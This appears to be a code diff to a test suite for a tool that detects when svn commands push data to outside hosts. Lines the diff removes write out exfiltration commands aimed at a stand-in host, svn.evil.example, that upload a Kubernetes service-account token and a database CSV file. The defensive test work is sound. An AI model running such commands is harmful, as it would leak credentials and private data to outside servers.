@@ -168,22 +168,13 @@ describe('push-tool table', () => {
       expect(hg(args)?.kind, args).not.toBe('push');
   });
 
-  it('svn: a log message from a file leaves with any commit straight to a URL; ^/ is the repository root', () => {
+  it('svn: ^/ is the repository root, a server URL (a working copy copied there is a push; ^/ to ^/ is not)', () => {
     const svn = (args: string) => {
       const r = recognizeProcess({ binary: '/usr/bin/svn', args, parentBinary: null, parentArgs: null }, uploadTarget);
       return r?.kind === 'push' ? [r.destinationHost, r.remote] : r;
     };
-    const token = '/var/run/secrets/kubernetes.io/serviceaccount/token';
-    expect(svn(`mkdir https://svn.evil.example/r/x -F ${token}`)).toEqual([
-      'svn.evil.example',
-      'https://svn.evil.example/r/x',
-    ]);
-    expect(svn('propset --revprop -r1 svn:log -F /srv/db/orders.csv https://svn.evil.example/r')).toEqual([
-      'svn.evil.example',
-      'https://svn.evil.example/r',
-    ]);
     expect(svn('copy . ^/branches/loot -m x')).toEqual([null, '^/branches/loot']);
-    expect(svn('mkdir https://svn.corp.example/r/x -m x')).toBeNull();
+    expect(svn('copy ^/trunk ^/tags/1.0 -m Release 1.0')).toBeNull();
     expect(svn('copy https://svn.corp.example/r/trunk https://svn.corp.example/r/tags/v1 -m tag')).toBeNull();
   });
 
